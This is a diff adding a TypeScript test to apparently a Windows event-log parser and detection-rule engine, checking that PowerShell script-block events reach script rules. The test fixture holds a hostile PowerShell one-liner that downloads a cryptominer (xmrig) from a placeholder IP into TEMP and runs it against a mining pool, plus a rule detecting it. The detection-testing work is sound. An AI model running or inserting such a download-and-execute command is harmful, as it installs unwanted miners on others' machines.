@@ -75,6 +75,23 @@ test("each Windows logsource sees only its own kind of record; EventData names r
   assert.deepEqual(hits(load("  product: windows\n  service: sysmon", "  sel:\n    Image|endswith: '\\rundll32.exe'\n  condition: sel"), events).get("t"), [1, 7, 13, 5]);
 });
 
+test("PowerShell script blocks (4104) reach ps_script rules through ScriptBlockText", async () => {
+  const script = "$wc = New-Object System.Net.WebClient; $wc.DownloadFile('http://203.0.113.7/xmrig.exe', \"$env:TEMP\\xmrig.exe\"); Start-Process \"$env:TEMP\\xmrig.exe\" -ArgumentList '-o pool.minexmr.com:4444'";
+  const built: BuildEvent[] = [
+    { provider: "Microsoft-Windows-PowerShell", providerGuid: "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", eventId: 4104, channel: "Microsoft-Windows-PowerShell/Operational",
+      computer: "WS-1", time: new Date("2026-11-20T03:14:07Z"), level: 5, task: 2, userSid: "S-1-5-21-1-2-3-1000",
+      data: [["MessageNumber", { type: "int32", value: 1 }], ["MessageTotal", { type: "int32", value: 1 }], ["ScriptBlockText", script],
+        ["ScriptBlockId", "{7F1B0C3A-2D4E-4F5A-9B6C-1D2E3F4A5B6C}"], ["Path", ""]] },
+    sysmonEvent(1, "WS-1", new Date("2026-11-20T03:14:08Z"), [["Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"], ["CommandLine", script]]),
+  ];
+  const events = (await parseWith(evtxSource, buildEvtx(built), "ps.evtx")).events;
+  assert.equal(events[0]!["event.dataset"], "windows.powershell.script");
+  assert.equal(events[0]!["powershell.file.script_block_text"], script);
+  const rules = compileRuleSources([{ file: "r.yml", text: rule("  product: windows\n  category: ps_script\n  definition: 'Script Block Logging must be enabled'",
+    "  sel:\n    ScriptBlockText|contains|all:\n      - 'DownloadFile'\n      - 'xmrig'\n  condition: sel") }]).rules;
+  assert.deepEqual(hits(rules, events).get("t"), [4104]);
+});
+
 test("the emits declaration lists every dataset data/events.yaml can produce, with the same categories", () => {
   const declared = new Map(WINDOWS_EMITS.map((d) => [d.dataset, [...d.categories]]));
   for (const [dataset, categories] of eventTable().datasets) assert.deepEqual(declared.get(dataset), [...categories], dataset);
